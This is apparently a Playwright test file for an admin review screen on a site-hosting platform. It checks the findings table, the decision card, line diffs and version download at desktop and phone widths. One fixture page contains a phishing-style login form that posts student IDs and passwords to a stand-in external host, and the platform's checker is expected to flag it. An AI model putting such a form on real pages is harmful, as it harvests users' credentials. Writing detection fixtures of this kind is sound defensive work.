import { expect, type Locator, type Page, test } from '@playwright/test';
import yauzl from 'yauzl';
import { ADMIN, apiToken, createAccount, signIn } from './helpers';
import { review, uploadSite, uploadVersion } from './site-helpers';

/**
 * The reviewer's screen (issue 30 part 4): the findings table reads at 1440 px and on a phone, the
 * decision is in view or one click away, file names keep their width on a phone, a changed file's
 * line diff shows what was added and removed, and 下载 gives the version under review.
 */

const LONG_NAME = 'assets/scripts/navigation-header-with-dropdown-menu.js';

const v1 = {
  'index.html': [
    '<!doctype html><title>作品集</title>',
    '<h1>我的作品集</h1>',
    '<p>第一段</p>',
    '<script src="assets/scripts/navigation-header-with-dropdown-menu.js"></script>',
  ].join('\n'),
  'css/style.css': 'body { color: #333; }\n',
  [LONG_NAME]: 'console.log("v1");\n',
};

const v2 = {
  ...v1,
  'index.html': [
    '<!doctype html><title>作品集</title>',
    '<h1>我的新作品集</h1>',
    '<p>第一段</p>',
    '<form action="https://login-check.example.net/collect.php" method="post">',
    '<input name="user" placeholder="学号"><input type="password" name="pw" placeholder="密码">',
    '<button>登录</button></form>',
    // A long address with no place to break: it must not squeeze the other columns.
    '<script src="https://static-assets-delivery.example.org/libraries/analytics/tracker-bundle-with-a-very-long-file-name.min.js?version=20261128&amp;build=abcdef0123456789"></script>',
    '<script src="assets/scripts/navigation-header-with-dropdown-menu.js"></script>',
  ].join('\n'),
  'css/style.css': 'body { color: #111; }\n',
};

/** A live v1 and a waiting v2 with a password form posted elsewhere: findings and a version diff. */
async function projectWithWaitingVersion(request: Parameters<typeof createAccount>[0]) {
  const owner = await createAccount(request, 'rv');
  const token = await apiToken(request, owner.username, owner.password);
  const name = `作品集${Date.now().toString(36)}`;
  const site = await uploadSite(request, token, name, v1);
  await review(request, site.id, 'approve');
  await uploadVersion(request, token, site.id, v2);
  return { id: site.id, name };
}

async function openDetail(page: Page, id: number, name: string) {
  await signIn(page, ADMIN.username, ADMIN.password);
  await expect(page).not.toHaveURL(/\/login/);
  await page.goto(`/admin/reviews/${id}`);
  await expect(page.getByRole('heading', { name: `审核：${name}` })).toBeVisible({ timeout: 30_000 });
}

/** The entries of a zip file as path → text. */
function zipEntries(file: string): Promise<Record<string, string>> {
  return new Promise((resolve, reject) => {
    yauzl.open(file, { lazyEntries: true }, (err, zip) => {
      if (err || !zip) return reject(err);
      const out: Record<string, string> = {};
      zip.on('entry', (entry: yauzl.Entry) =>
        zip.openReadStream(entry, (readErr, stream) => {
          if (readErr || !stream) return reject(readErr);
          const chunks: Buffer[] = [];
          stream.on('data', (c: Buffer) => chunks.push(c));
          stream.on('end', () => {
            out[entry.fileName] = Buffer.concat(chunks).toString();
            zip.readEntry();
          });
          stream.on('error', reject);
        }),
      );
      zip.on('end', () => resolve(out));
      zip.on('error', reject);
      zip.readEntry();
    });
  });
}

async function box(locator: Locator) {
  const b = await locator.boundingBox();
  if (!b) throw new Error('not laid out');
  return b;
}

/** The element's text and how many lines it takes (a text range has one client rect per line). */
function linesOf(locator: Locator) {
  return locator.evaluate((element) => {
    const tops = new Set<number>();
    const walker = document.createTreeWalker(element, NodeFilter.SHOW_TEXT);
    for (let node = walker.nextNode(); node; node = walker.nextNode()) {
      const range = document.createRange();
      range.selectNodeContents(node);
      for (const rect of Array.from(range.getClientRects())) tops.add(Math.round(rect.top));
    }
    return { text: element.textContent ?? '', lines: tops.size };
  });
}

test('at 1440×900 the findings read across, the decision is in view or one click away, and a changed file shows its line diff', async ({
  page,
  request,
}) => {
  test.setTimeout(90_000);
  await page.setViewportSize({ width: 1440, height: 900 });
  const { id, name } = await projectWithWaitingVersion(request);
  await openDetail(page, id, name);

  // The findings table: 类型 keeps a width of its own, and each label reads on one line.
  const findings = page.locator('.check-findings');
  await expect(findings.locator('tbody tr.ant-table-row').first()).toBeVisible();
  const typeHeader = findings.getByRole('columnheader', { name: '类型' });
  expect((await box(typeHeader)).width).toBeGreaterThan(100);
  const kinds = await findings.locator('tbody .finding-kind').all();
  expect(kinds.length).toBeGreaterThan(0);
  for (const kind of kinds) {
    const { text, lines } = await linesOf(kind);
    expect(lines, `${text} in ${lines} lines`).toBe(1);
  }
  // The excerpt is there in full, wrapped: the form's address can be read.
  await expect(findings.locator('.finding-excerpt-inline').first()).toBeVisible();
  await expect(findings).toContainText('https://login-check.example.net/collect.php');

  // The decision card is in view on opening; scrolled away, the bar brings it back in one click.
  const decision = page.locator('#review-decision');
  await expect(decision).toBeInViewport();
  await page.locator('.version-files').first().scrollIntoViewIfNeeded();
  await expect(decision).not.toBeInViewport();
  await page.getByRole('button', { name: '去审核决定' }).click();
  await expect(decision).toBeInViewport();
  await expect(page.getByRole('combobox', { name: '审核结果' })).toBeFocused();

  // The line diff of the changed page: the old heading removed, the new one and the form added.
  await page.getByRole('button', { name: '查看 index.html 的逐行差异' }).click();
  const lines = page.getByRole('figure', { name: 'index.html 逐行差异' });
  await expect(lines.locator('.line-diff__line--removed')).toHaveText(['2-<h1>我的作品集</h1>']);
  await expect(lines.locator('.line-diff__line--added').first()).toHaveText('2+<h1>我的新作品集</h1>');
  await expect(lines.locator('.line-diff__line--added')).toHaveCount(5);
  await expect(lines.locator('.line-diff__line--context').first()).toHaveText(/^11 <!doctype html>/);
});

test('on a 390×844 phone file names keep their width, the findings stack, and the line diff reads', async ({
  page,
  request,
}) => {
  test.setTimeout(90_000);
  await page.setViewportSize({ width: 390, height: 844 });
  const { id, name } = await projectWithWaitingVersion(request);
  await openDetail(page, id, name);

  // The cards' titles are whole: the info card's three buttons had squeezed 项目信息 to 项…
  const infoTitle = page.locator('.ant-card-head-title').filter({ hasText: '项目信息' });
  await expect(infoTitle).toBeVisible();
  expect(await infoTitle.evaluate((el) => el.scrollWidth <= el.clientWidth)).toBe(true);

  // One click to the decision from the top of the page, its title below the sticky header, not
  // under it.
  const decision = page.locator('#review-decision');
  await expect(decision).not.toBeInViewport();
  await page.getByRole('button', { name: '去审核决定' }).click();
  await expect(decision).toBeInViewport();
  const headerBottom = await page.locator('.app-header').evaluate((el) => el.getBoundingClientRect().bottom);
  await expect
    .poll(() => decision.evaluate((el) => el.getBoundingClientRect().top))
    .toBeGreaterThanOrEqual(headerBottom);

  // File names in the version diff and in the file list: several characters a line, not one.
  const diffNames = page.locator('.diff-file');
  await expect(diffNames.first()).toBeVisible();
  const fileNames = page.locator('.file-name');
  await fileNames.first().scrollIntoViewIfNeeded();
  const names = [...(await diffNames.all()), ...(await fileNames.all())];
  expect(names.length).toBeGreaterThanOrEqual(5);
  for (const nameCell of names) {
    const { text, lines } = await linesOf(nameCell);
    // A short name on one line, a long one at least 12 characters a line.
    expect(text.length / lines, `${text} in ${lines} lines`).toBeGreaterThanOrEqual(
      Math.min(text.length, 12),
    );
  }

  // The findings: level and a stacked description, the type label on one line.
  const findings = page.locator('.check-findings');
  await expect(findings.getByRole('columnheader')).toHaveText(['级别', '说明']);
  for (const kind of await findings.locator('tbody .finding-kind').all()) {
    const { text, lines } = await linesOf(kind);
    expect(lines, `${text} in ${lines} lines`).toBe(1);
  }

  await page.getByRole('button', { name: '查看 css/style.css 的逐行差异' }).click();
  const lines = page.getByRole('figure', { name: 'css/style.css 逐行差异' });
  await expect(lines.locator('.line-diff__line--removed')).toHaveText(['1-body { color: #333; }']);
  await expect(lines.locator('.line-diff__line--added')).toHaveText(['1+body { color: #111; }']);
  const line = await box(lines.locator('.line-diff__line--added'));
  expect(line.width).toBeGreaterThan(200);
});

test('下载 gives the reviewer the version under review, not the live one', async ({ page, request }) => {
  const { id, name } = await projectWithWaitingVersion(request);
  await openDetail(page, id, name);
  const info = page
    .locator('.ant-card')
    .filter({ has: page.locator('.ant-card-head-title', { hasText: '项目信息' }) });
  const downloading = page.waitForEvent('download');
  await info.getByRole('button', { name: '下载', exact: true }).click();
  const download = await downloading;
  expect(download.suggestedFilename()).toBe(`project-${id}-v2.zip`);
  expect(await zipEntries(await download.path())).toEqual(v2);
  await expect(page.getByText(`已开始下载 project-${id}-v2.zip`)).toBeVisible();
});
